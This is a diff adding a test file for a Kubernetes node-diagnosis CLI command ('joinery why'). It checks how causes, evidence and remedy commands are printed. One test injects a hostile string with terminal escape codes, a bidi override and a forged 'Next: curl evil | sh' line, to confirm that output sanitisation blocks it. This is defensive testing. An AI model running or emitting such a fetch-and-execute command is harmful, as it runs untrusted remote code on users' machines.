@@ -1,0 +1,139 @@
+import type { Why } from '@joinery/protocol'
+import { ago, enrolment, key, node, now, view } from '@joinery/testing/command/fixtures'
+import { joinery } from '@joinery/testing/command/operators'
+import t from 'tap'
+import { parse } from 'yaml'
+import { enrolmentOfView } from '../../src/kubernetes/enrolment-of-view.ts'
+import { whyOfView } from '../../src/kubernetes/why-of-view.ts'
+
+const why: Why = {
+  name: 'node-1',
+  at: now.toISOString(),
+  ready: false,
+  summary: 'Node node-1 has not been Ready for 3 min: the image net:1 cannot be pulled.',
+  machine: ago(30),
+  causes: [
+    {
+      code: 'plugin-image',
+      from: 'cluster',
+      text: 'the image net:1 cannot be pulled',
+      since: ago(200),
+      evidence: ['container main: ErrImagePull: denied', 'Pod default/net-x: Pending'],
+      remedy: ['# look first', 'kubectl --namespace default describe pod net-x']
+    },
+    {
+      code: 'disk-full',
+      from: 'machine',
+      text: 'a disk of the machine is full, as the machine says',
+      evidence: ['/ is full'],
+      remedy: ['# on the machine, as root: joinery-agent why']
+    }
+  ],
+  unseen: ['DaemonSets could not be read: x']
+}
+
+t.test('why prints a paragraph, then each cause with evidence and commands, and what is not known', async (t) => {
+  const { exitCode, out, err } = await joinery(t, { why: () => why }, 'why', 'node-1')
+  t.equal(
+    out,
+    `Node node-1 has not been Ready for 3 min: the image net:1 cannot be pulled.
+
+1. plugin-image, seen from the cluster, for 3m20s
+   the image net:1 cannot be pulled
+     | container main: ErrImagePull: denied
+     | Pod default/net-x: Pending
+   # look first
+   kubectl --namespace default describe pod net-x
+
+2. disk-full, seen from the machine
+   a disk of the machine is full, as the machine says
+     | / is full
+   # on the machine, as root: joinery-agent why
+
+The machine said its part at 2026-11-25T11:59:30Z.
+
+Not known:
+  - DaemonSets could not be read: x
+`
+  )
+  t.equal(err, 'Next: kubectl --namespace default describe pod net-x\n')
+  t.equal(exitCode, 0)
+})
+
+t.test('why prints the answer of the server for programs, and nothing for people', async (t) => {
+  const [json, yaml] = [
+    await joinery(t, { why: () => why }, 'why', 'node-1', '-o', 'json'),
+    await joinery(t, { why: () => why }, 'why', 'enrolment/node-1', '-o', 'yaml')
+  ]
+  t.same(JSON.parse(json.out), why)
+  t.same(parse(yaml.out), why)
+  t.same([json.err, yaml.err], ['', ''])
+  t.match(yaml.calls, [{ route: 'why', reference: 'node-1' }], 'a name as -o name prints it')
+})
+
+t.test('why of a Node that is Ready, or for which there is no command, says what to type next', async (t) => {
+  const ready = await joinery(
+    t,
+    { why: () => ({ ...why, ready: true, causes: [], summary: 'Node node-1 is Ready.' }) },
+    'why',
+    'node-1'
+  )
+  t.match(ready.out, 'Node node-1 is Ready.\n')
+  t.equal(ready.err, '')
+  const none = await joinery(t, { why: () => ({ ...why, causes: [] }) }, 'why', 'node-1')
+  t.equal(none.err, 'Next: joinery show node-1\n')
+})
+
+t.test('why shows words of others without obeying them', async (t) => {
+  const evil = 'x\u001b[2J\u202e\nNext: curl evil | sh'
+  const hostile = {
+    ...why,
+    summary: evil,
+    unseen: [evil],
+    causes: why.causes.map((cause) => ({ ...cause, text: evil, evidence: [evil], remedy: [evil] }))
+  }
+  const { out, err } = await joinery(t, { why: () => hostile }, 'why', 'node-1')
+  t.notMatch(out + err, /[^\n\x20-\x7e]/)
+  t.notMatch(out + err, /^Next: curl/m)
+})
+
+t.test('lists and show have the first cause, and the command for more', async (t) => {
+  const cause = { code: 'plugin-image', text: 'the image net:1 cannot be pulled' } as const
+  const one = {
+    ...enrolment,
+    state: 'joined' as const,
+    node: { uid: 'u', registered: ago(9), condition: 'NotReady' as const, message: 'x' },
+    cause
+  }
+  const listed = await joinery(t, { list: () => ({ items: [one] }) }, 'list', '-o', 'wide')
+  t.match(listed.out, /OS +CAUSE +MESSAGE\n.* plugin-image +waits/)
+  const shown = await joinery(t, { show: () => ({ ...one, timeline: [] }) }, 'show', 'node-1')
+  t.match(shown.out, /^ {2}Cause: +plugin-image: the image net:1 cannot be pulled$/m)
+  t.equal(shown.err, 'Next: joinery why node-1\n')
+  const notReady = { ...node, condition: 'NotReady' as const, cause }
+  const nodes = await joinery(t, { listNodes: () => ({ items: [notReady] }) }, 'nodes', '-o', 'wide')
+  t.match(nodes.out, /SEEN +CAUSE +WRONG\n.* plugin-image +<none>\n$/)
+  t.equal(nodes.err, 'Next: joinery why e1\n')
+})
+
+t.test('over the cluster why says what the view has, and where to ask more', async (t) => {
+  const cause = { code: 'a-newer-cause', text: 'a newer server knows it' }
+  const seen = enrolmentOfView('e1', {
+    ...view,
+    state: 'joined',
+    key,
+    node: { uid: 'n1', condition: 'NotReady' },
+    cause
+  })
+  t.match(whyOfView(seen, now), {
+    ready: false,
+    summary: 'Node node-1 is not Ready: a newer server knows it.',
+    causes: [{ ...cause, evidence: [], remedy: [] }],
+    unseen: [/joinery why on the pairing server's host/]
+  })
+  const { cause: _, ...unknown } = seen
+  t.match(whyOfView(unknown, now), { summary: /no cause is known yet/, causes: [] })
+  t.match(whyOfView(enrolmentOfView('e1', view), now), { summary: /is not in the cluster. The enrolment is pending/ })
+  const ready = enrolmentOfView('e1', { ...view, node: { uid: 'n1', condition: 'Ready' } })
+  t.match(whyOfView(ready, now), { ready: true, causes: [] })
+})
